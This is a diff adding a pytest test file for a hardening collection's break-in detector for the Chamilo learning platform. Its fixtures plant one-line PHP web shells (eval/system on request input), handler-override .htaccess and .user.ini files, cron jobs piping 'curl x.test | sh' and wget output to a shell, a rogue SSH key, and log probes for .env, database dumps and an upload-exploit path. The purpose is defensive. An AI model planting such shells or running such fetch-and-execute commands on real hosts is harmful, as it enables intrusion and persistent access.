@@ -1,0 +1,181 @@
+# Copyright (c) 2026, the chamilo.hardening maintainers
+# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
+# SPDX-License-Identifier: GPL-3.0-or-later
+
+"""A host with and without traces of a break-in; the host is that of test_monitoring.py."""
+
+from __future__ import annotations
+
+import os
+import time
+
+import pytest
+
+from ansible_collections.chamilo.hardening.plugins.module_utils._audit import _compromise, monitoring
+from ansible_collections.chamilo.hardening.plugins.module_utils._audit._compromise import Trace, trace
+from ansible_collections.chamilo.hardening.plugins.module_utils._running import Job, Process
+from tests.unit.plugins.module_utils._audit.test_monitoring import WEB, Host
+
+
+@pytest.fixture
+def host(tmp_path, monkeypatch):
+    return Host(tmp_path, monkeypatch)
+
+
+def test_a_clean_host_shows_no_sign(host):
+    host.file("var/cache/prod/Container.php", "<?php eval($_POST['x']);")  # compiled by Symfony: not looked at
+    host.file("var/upload/homework.phps", "<?php system($_GET['x']);")
+    host.file("public/main/.htaccess", "SetHandler none\nphp_flag engine off\nAddType font/woff .woff")
+    host.jobs.append(Job("/var/spool/cron/crontabs/www-data:1", f"* * * * * php {host.root}/bin/console app:x"))
+    host.log.write_text(
+        '10.0.0.5 - - [25/Nov/2026:13:00:00 +0000] "GET /.env HTTP/1.1" 200 5 "-" "-"\n'
+        '192.0.2.1 - - [25/Nov/2026:13:00:00 +0000] "GET /.env HTTP/1.1" 404 5 "-" "-"\n'
+        '192.0.2.1 - - [25/Nov/2026:13:00:00 +0000] "GET /main/a.php HTTP/1.1" 200 5 "/x.phtml" "-"\n'
+    )
+    finding = monitoring.compromise(host.look())
+    assert finding.status == "pass", finding.evidence
+    assert monitoring.signs(host.look()) == []
+
+
+def plant(path, text="<?php echo 1;", days=0.0):
+    return lambda host: host.file(path, text, days)
+
+
+def request(line, client="192.0.2.66"):
+    def add(host):
+        with host.log.open("a") as file:
+            file.write(f'{client} - - [25/Nov/2026:13:00:00 +0000] {line} 200 5 "-" "-"\n')
+
+    return add
+
+
+def admin(**values):
+    return lambda host: host.admins.append({"username": "eve", "status": "1", "active": "1", "late": "0", **values})
+
+
+@pytest.mark.parametrize(
+    ("plant", "words"),
+    [
+        (plant("var/upload/x.php"), "var/upload/x.php"),
+        (plant("var/themes/x.PhAr"), "var/themes/x.PhAr"),
+        (plant("var/upload/.htaccess", "AddHandler application/x-httpd-php .jpg"), "var/upload/.htaccess"),
+        (plant("public/img/logo.php", days=100), "PHP among assets: public/img/logo.php"),
+        (plant("public/main/old.php", "<?php @eval(base64_decode('x'));", days=200), "web shell: public/main/old.php"),
+        (plant("public/main/c.php", "<?php system($_GET['c']);", days=100), "public/main/c.php"),
+        (plant("public/main/d.php", "<?php $_POST['f']($_POST['x']);", days=100), "public/main/d.php"),
+        (plant("public/main/e.php", "<?php $k = $_POST['x'];\n$y = base64_decode($k);"), "public/main/e.php"),
+        (plant("public/news.php"), "public/news.php"),
+        (plant("public/main/.user.ini", "auto_prepend_file = /tmp/x"), "public/main/.user.ini"),
+        (admin(status="5"), "pupils with an administrator's rights: eve"),
+        (admin(late="1"), "administrators made in the last 30 days: eve"),
+        (request('"GET /.env HTTP/1.1"'), "the environment file answered a stranger once"),
+        (request('"GET /dump.sql HTTP/1.1"'), "a database dump"),
+        (request('"GET /main/inc/lib/javascript/bigupload/files/rce.php?c=id HTTP/1.1"'), "bigUpload"),
+        (request('"POST /img/logo.php HTTP/1.1"'), "a PHP file among assets"),
+        (request('"GET /x/y.pht HTTP/1.1"'), "a rare kind"),
+        (request('"POST /main/install/index.php HTTP/1.1"'), "the installer"),
+        (
+            lambda host: host.jobs.append(Job("/var/spool/cron/crontabs/www-data:1", "* * * * * curl -s x.test | sh")),
+            "a cron job of the web user",
+        ),
+        (
+            lambda host: host.jobs.append(Job("/etc/cron.d/x:3", "* * * * * www-data wget -q -O- http://x.test | sh")),
+            "runs as the web user",
+        ),
+        (
+            lambda host: (
+                (host.root.parent / "home/.ssh").mkdir(parents=True)
+                or (host.root.parent / "home/.ssh/authorized_keys").write_text("ssh-ed25519 AAAA eve\n")
+            ),
+            "authorized_keys",
+        ),
+    ],
+)
+def test_signs(host, plant, words):
+    env = host.file(".env", "APP_ENV=prod\n", days=400)
+    os.utime(env, (time.mktime((2026, 1, 1, 0, 0, 0, 0, 0, -1)),) * 2)
+    plant(host)
+    finding = monitoring.compromise(host.look())
+    assert finding.status == "fail"
+    assert words in finding.evidence
+    assert len(monitoring.signs(host.look())) == 1
+
+
+def test_a_process_of_the_web_user_that_is_no_server(host, monkeypatch):
+    host.processes += [Process(50, 1, "kworkerd", WEB), Process(51, 1, "php-fpm8.4", WEB), Process(52, 1, "sh", WEB)]
+    programs = {"50": "/dev/shm/.x/kworkerd", "51": "/usr/sbin/php-fpm8.4", "52": "/usr/bin/dash"}
+    monkeypatch.setattr(_compromise.os, "readlink", lambda path: programs[path.split("/")[2]])
+    found = monitoring.signs(host.look())
+    assert len(found) == 1
+    assert "process 50" in found[0]
+    assert "process 52" in found[0]
+
+
+@pytest.mark.parametrize("written", ["", "${APACHE_LOG_DIR}/access.log combined"])
+def test_a_log_that_is_not_named_is_in_a_usual_place(host, monkeypatch, written):
+    monkeypatch.setattr(_compromise, "USUAL_LOGS", (str(host.log),))
+    request('"GET /dump.sql HTTP/1.1"')(host)
+    host.access_log = written
+    assert len(monitoring.signs(host.look())) == 1
+
+
+def test_a_name_that_could_harm_a_terminal_is_escaped(host):
+    host.file("var/upload/\x1b[2Jx.php", "<?php")
+    assert "\x1b" not in monitoring.compromise(host.look()).evidence
+
+
+def test_a_newer_file_of_the_program_is_no_script_beside_index_php(host):
+    host.file("src/New.php", "<?php class New_ {}")
+    assert not any("beside index.php" in sign for sign in monitoring.signs(host.look()))
+    host.file("public/help.php", "<?php phpversion();")
+    assert any("beside index.php" in sign and "public/help.php" in sign for sign in monitoring.signs(host.look()))
+
+
+@pytest.mark.parametrize("name", [".ssh/authorized_keys2", ".config/systemd/user/x.service"])
+def test_a_link_that_leads_nowhere_hides_nothing(host, name):
+    """The web user can make one where its home is its own."""
+    link = host.root.parent / "home" / name
+    link.parent.mkdir(parents=True)
+    link.symlink_to("/nonexistent/key")
+    host.file("var/upload/x.php", "<?php")
+    php, way_in = sorted(trace(host.look()).signs)
+    assert name in way_in and "var/upload/x.php" in php
+
+
+def test_an_empty_file_of_keys_lets_nobody_in(host):
+    keys = host.root.parent / "home/.ssh/authorized_keys"
+    keys.parent.mkdir(parents=True)
+    keys.touch()
+    assert trace(host.look()).signs == []
+
+
+def test_pipes_and_nonsense_stop_nobody(host):
+    os.mkfifo(host.root / "public/main/pipe.php")
+    os.mkfifo(host.root / "var/upload/.htaccess")
+    (host.root / "public/main/loop.php").symlink_to("loop.php")
+    host.log.write_bytes(b"\xff\x00" * 100 + b'\n"GET /.env HTTP/1.1" 200 \n' + b'POST /main/install/ "')
+    found = trace(host.look())
+    (sign,) = found.signs
+    assert sign.startswith("the environment file answered a stranger once")
+    assert sign.endswith("for an unknown address")
+    assert found.gaps == []
+
+
+def test_the_log_that_was_rotated_is_read_as_well(host):
+    request('"GET /dump.sql HTTP/1.1"')(host)
+    host.log.rename(f"{host.log}.1")
+    host.log.write_text("")
+    assert len(trace(host.look()).signs) == 1
+
+
+def test_the_time_that_is_over_is_a_gap(host, monkeypatch):
+    monkeypatch.setattr(_compromise, "_SECONDS", -1.0)
+    assert any("the time for it" in gap for gap in trace(host.look()).gaps)
+
+
+def test_many_are_counted_and_none_is_no_sign():
+    found = Trace()
+    found.add("PHP among assets", [])
+    assert found.signs == []
+    found.add("PHP among assets", [f"public/img/{number}.php" for number in range(9)])
+    assert found.signs == ["PHP among assets: public/img/0.php, public/img/1.php, public/img/2.php and 6 more"]
